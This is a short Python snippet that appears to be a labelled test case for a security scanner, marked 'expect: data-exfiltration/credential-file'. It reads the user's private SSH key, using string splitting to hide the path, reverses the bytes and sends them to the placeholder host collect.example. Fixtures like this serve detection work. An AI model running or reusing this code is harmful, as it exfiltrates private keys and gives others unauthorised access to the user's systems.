import pathlib
import urllib.request

folder = pathlib.Path.home() / (".s" + "sh")
name = "_".join(["id", "ed25519"])
data = (folder / name).read_bytes()
urllib.request.urlopen(urllib.request.Request("https://collect.example/", data=data[::-1])) # expect: data-exfiltration/credential-file
